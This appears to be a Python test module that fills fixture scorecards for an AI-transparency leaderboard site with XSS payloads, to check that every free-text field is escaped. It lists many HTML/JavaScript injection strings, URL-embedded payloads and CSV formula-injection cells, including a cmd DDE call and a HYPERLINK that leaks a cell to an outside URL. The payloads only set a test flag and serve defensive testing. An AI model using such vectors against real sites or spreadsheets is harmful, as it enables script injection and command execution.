"""Injection payloads, and the fixture scorecards that carry them into every free-text field.

Every HTML/JS payload, if a page ever executes it, sets ``window.__xss = true`` (never
``alert``), so a test only has to read one global.  Payloads that cannot execute on their
own (template syntax, entities) are written so that *evaluating* them produces markup that
does execute, and they are also checked as literal text on the page.

The fixture files in ``tests/fixtures/xss/scorecards/xss/`` (and the declared documents in
``tests/fixtures/xss/sources/xss-labs.yaml``) are generated from this module
with ``yaml.safe_dump`` (so every payload is a valid YAML string) and must not be edited by
hand; regenerate them with::

    .venv/bin/python -m tests.browser.xss_payloads

``tests/browser/test_xss.py`` fails if the files on disk differ from what this module makes.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import yaml

FIXTURE_DIR = Path(__file__).parent.parent / "fixtures" / "xss" / "scorecards" / "xss"
RUBRIC_FILE = Path(__file__).parent.parent.parent / "rubrics" / "transparency" / "2.0.yaml"
RUBRIC_VERSION = "2.0"
SOURCES_FILE = Path(__file__).parent.parent / "fixtures" / "xss" / "sources" / "xss-labs.yaml"

# Payloads for text fields: each one, if executed in any way, sets window.__xss.
PAYLOADS: list[str] = [
    "<script>window.__xss=true</script>",
    '<img src=x onerror="window.__xss=true">',
    '<svg onload="window.__xss=true"></svg>',
    '"><img src=x onerror=window.__xss=true>',
    "'><svg/onload=window.__xss=true>",
    '" autofocus onfocus="window.__xss=true" x="',
    "javascript:window.__xss=true",
    "[click](javascript:window.__xss=true)",
    '![x](x" onerror="window.__xss=true)',
    '<https://example.com/"><img src=x onerror=window.__xss=true>>',
    "</title><script>window.__xss=true</script>",
    "</textarea></script><img src=x onerror=window.__xss=true>",
    "{{ '<img src=x onerror=window.__xss=true>' | safe }}",
    "{{ 7*7 }}",
    "{% raw %}<img src=x onerror=window.__xss=true>{% endraw %}",
    "${window.__xss=true}",
    "<!-- --><img src=x onerror=window.__xss=true><!-- -->",
    "--><img src=x onerror=window.__xss=true><!--",
    "&lt;img src=x onerror=window.__xss=true&gt;",
    "&#60;script&#62;window.__xss=true&#60;/script&#62;",
    "\u2028\u2029</script><script>window.__xss=true</script>",
    '<iframe srcdoc="<script>parent.__xss=true</script>"></iframe>',
    '<a href="javascript:window.__xss=true">click</a>',
    "<style>@import 'javascript:window.__xss=true';body{display:none}</style>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=true>">',
    '<details open ontoggle="window.__xss=true">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=true>",
]

# http(s) URLs that pass validation (no whitespace, a real host) but carry payloads.
URL_PAYLOADS: list[str] = [
    'https://example.com/"><script>window.__xss=true</script>',
    "https://example.com/'><img/src=x/onerror=window.__xss=true>",
    "https://example.com/?q=<svg/onload=window.__xss=true>",
    'https://example.com/#"onmouseover="window.__xss=true"',
    'https://example.com/path?a=1&b="><iframe/srcdoc=<script>parent.__xss=true</script>>',
    "https://javascript:window.__xss=true@example.com/",
    "http://example.com/%22%3E%3Cscript%3Ewindow.__xss=true%3C/script%3E",
    "https://example.com/{{7*7}}/{%raw%}<img/src=x/onerror=window.__xss=true>",
]

# Cells that a spreadsheet would run as formulas if the CSV export did not neutralize them.
FORMULA_NAME = '=HYPERLINK("https://example.com/?leak="&A1,"Click for details")'
FORMULA_DEVELOPER = "+1+cmd|' /C calc'!A0"
FORMULA_NAME_2 = "-2+3+cmd|' /C calc'!A0"
FORMULA_DEVELOPER_2 = "\t=1+1"
FORMULA_DEVELOPER_3 = "\r=1+1"
# A reviewer is a GitHub handle (the schema refuses anything else, tests/test_claim_checks.py), so no payload
# reaches the site through reviewed_by; the fixtures name one real-looking handle.
REVIEWER = "@xss-reviewer"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

SHORT_MAX = 200  # name, developer, flagship_model, base_model, locator, by, searched title
ASSESSED = dt.date(2025, 6, 15)
EARLIER = dt.date(2025, 1, 15)


def chunks(payloads: list[str], budget: int) -> list[list[str]]:
    """Greedy groups of payloads whose space-joined length stays within budget."""
    groups: list[list[str]] = [[]]
    for payload in payloads:
        if len(payload) > budget:
            raise ValueError(f"payload longer than {budget} characters: {payload!r}")
        if groups[-1] and len(" ".join([*groups[-1], payload])) > budget:
            groups.append([])
        groups[-1].append(payload)
    return groups


# The longest prefix below is "XSS lab NN " (11 characters).
GROUPS: list[list[str]] = chunks(PAYLOADS, SHORT_MAX - 12)


def _evidence(url: str, text: str, locator: str | None) -> dict[str, Any]:
    item: dict[str, Any] = {"url": url, "quote": text, "retrieved": ASSESSED}
    if locator is not None:
        item["locator"] = locator
    return item


def checklists() -> dict[str, list[str]]:
    """indicator id -> its checklist's element ids, in rubric order (the fixtures follow the rubric)."""
    rubric = yaml.safe_load(RUBRIC_FILE.read_text(encoding="utf-8"))
    return {i["id"]: [e["id"] for e in i["elements"]] for i in rubric["indicators"]}


def _claims(text: str, *, by: str, locator: str | None) -> dict[str, Any]:
    """The claims every fixture carries: each status, each provenance, payloads in every free-text field."""
    elements = checklists()
    return {
        "license": {
            "status": "disclosed",
            "elements": elements["license"],
            "evidence": [_evidence(url, text, locator) for url in URL_PAYLOADS],
            "note": text,
            "provenance": {"source": "person", "by": by, "reviewed_by": REVIEWER, "reviewed_on": ASSESSED},
        },
        "model-size": {
            "status": "partial",
            "elements": elements["model-size"][:1],
            "evidence": [_evidence(URL_PAYLOADS[0], text, locator)],
            "note": text,
            "provenance": {"source": "import", "by": by},
        },
        "training-data-size": {
            "status": "not-disclosed",
            "elements": [],
            "searched": [{"url": URL_PAYLOADS[-1], "title": text}],
            "note": text,
            "provenance": {"source": "collector", "by": by, "reviewed_by": REVIEWER, "reviewed_on": ASSESSED},
        },
    }


def _completed(claims: dict[str, Any], text: str, *, by: str, disclosed: int) -> dict[str, Any]:
    """``claims`` plus every other indicator: the first ``disclosed`` of them disclosed, the rest not.

    A complete assessment is ranked on the leaderboard, so payloads reach the ranked table too; the
    numbers disclosed differ between fixtures so that their scores mix one and two digits.
    """
    completed = dict(claims)
    others = [(i, e) for i, e in checklists().items() if i not in claims]
    for index, (indicator_id, elements) in enumerate(others):
        if index < disclosed:
            completed[indicator_id] = {
                "status": "disclosed",
                "elements": elements,
                "evidence": [_evidence(URL_PAYLOADS[index % len(URL_PAYLOADS)], text, None)],
                "provenance": {"source": "person", "by": by},
            }
        else:
            completed[indicator_id] = {
                "status": "not-disclosed",
                "searched": [{"url": URL_PAYLOADS[index % len(URL_PAYLOADS)]}],
                "provenance": {"source": "person", "by": by},
            }
    return completed


def _card(subject: dict[str, Any], text: str, *, by: str, locator: str | None, disclosed: int | None) -> dict[str, Any]:
    """A scorecard with `text` in the assessment-level fields and two assessments (for the changes page).

    With ``disclosed`` the latest assessment is complete (every indicator assessed), so it is ranked;
    without, it is incomplete and listed apart with its range.
    """
    claims = _claims(text, by=by, locator=locator)
    if disclosed is not None:
        claims = _completed(claims, text, by=by, disclosed=disclosed)
    return {
        "schema_version": 1,
        "subject": subject,
        "assessments": [
            {
                "rubric": "transparency",
                "rubric_version": RUBRIC_VERSION,
                "date": EARLIER,
                "summary": text,
                "indicators": {
                    "license": {
                        "status": "not-disclosed",
                        "searched": [{"url": url, "title": text} for url in URL_PAYLOADS],
                        "note": text,
                        "provenance": {"source": "collector", "by": by},
                    },
                },
            },
            {
                "rubric": "transparency",
                "rubric_version": RUBRIC_VERSION,
                "date": ASSESSED,
                "summary": text,
                "indicators": claims,
            },
        ],
    }


def _links() -> dict[str, Any]:
    return {
        "homepage": URL_PAYLOADS[0],
        "model_card": URL_PAYLOADS[1],
        "paper": URL_PAYLOADS[2],
        "repository": URL_PAYLOADS[3],
        "license": URL_PAYLOADS[4],
        "documentation": URL_PAYLOADS,
    }


def scorecards() -> dict[str, dict[str, Any]]:
    """id -> scorecard: one per group of payloads (every field holds the group), plus two for CSV formulas."""
    cards: dict[str, dict[str, Any]] = {}
    for number, group in enumerate(GROUPS, start=1):
        text = " ".join(group)
        subject_id = f"xss-{number}"
        subject = {
            "id": subject_id,
            "name": f"XSS {number} {text}",
            "kind": "developer" if number % 2 else "model",
            "developer": f"XSS lab {number} {text}",
            "flagship_model": text,
            "release_date": EARLIER,
            "modalities": ["text"],
            "access": "open-weights",
            "base_model": text,
            "description": text,
            "links": _links(),
        }
        # the odd-numbered fixtures are complete (ranked), the even ones incomplete (listed apart)
        disclosed = 8 * (number - 1) if number % 2 else None
        cards[subject_id] = _card(subject, text, by=text, locator=text, disclosed=disclosed)
    formula_cards = [
        ("xss-csv-1", FORMULA_NAME, FORMULA_DEVELOPER, 'xss-org/"><svg/onload=window.__xss=true>'),
        (
            "xss-csv-2",
            FORMULA_NAME_2,
            FORMULA_DEVELOPER_2 + FORMULA_DEVELOPER_3,
            "xss-org/'><img/src=x/onerror=window.__xss=true>",
        ),
    ]
    for (subject_id, name, developer, base_model), disclosed in zip(formula_cards, (4, None), strict=True):
        subject = {
            "id": subject_id,
            "name": name,
            "developer": developer,
            "modalities": ["text"],
            "access": "api-only",
            "base_model": base_model,
            "description": name,
            "links": _links(),
        }
        cards[subject_id] = _card(subject, name, by=name, locator=None, disclosed=disclosed)
    return cards


class _Dumper(yaml.SafeDumper):
    """yaml.safe_dump's dumper, without anchors for values shared between fields (dates, URL lists)."""

    def ignore_aliases(self, data: Any) -> bool:
        return True


def render(card: dict[str, Any]) -> str:
    text = yaml.dump(card, Dumper=_Dumper, sort_keys=False, allow_unicode=False, width=100)
    return "# Generated by tests/browser/xss_payloads.py: do not edit, regenerate.\n" + text


def expected_files() -> dict[str, str]:
    """file name -> content of every fixture scorecard."""
    return {f"{subject_id}.yaml": render(card) for subject_id, card in scorecards().items()}


def sources() -> dict[str, Any]:
    """A sources file whose developer and every document title hold a group of payloads, with payload URLs."""
    return {
        "developer": "XSS lab " + GROUPS[0][0],
        "documents": [
            {
                "id": f"xss-document-{number}",
                "title": f"XSS {number} {' '.join(group)}",
                "kind": "system-card",
                "url": URL_PAYLOADS[number % len(URL_PAYLOADS)],
                "models": [f"xss-{number}"],
            }
            for number, group in enumerate(GROUPS, start=1)
        ],
    }


def expected_sources() -> str:
    return render(sources())


def write_fixtures(folder: Path = FIXTURE_DIR) -> list[Path]:
    SOURCES_FILE.parent.mkdir(parents=True, exist_ok=True)
    SOURCES_FILE.write_text(expected_sources(), encoding="utf-8")
    folder.mkdir(parents=True, exist_ok=True)
    for stale in folder.glob("*.yaml"):
        stale.unlink()
    written = []
    for name, content in expected_files().items():
        path = folder / name
        path.write_text(content, encoding="utf-8")
        written.append(path)
    return [*written, SOURCES_FILE]


if __name__ == "__main__":
    for written_path in write_fixtures():
        print(written_path)
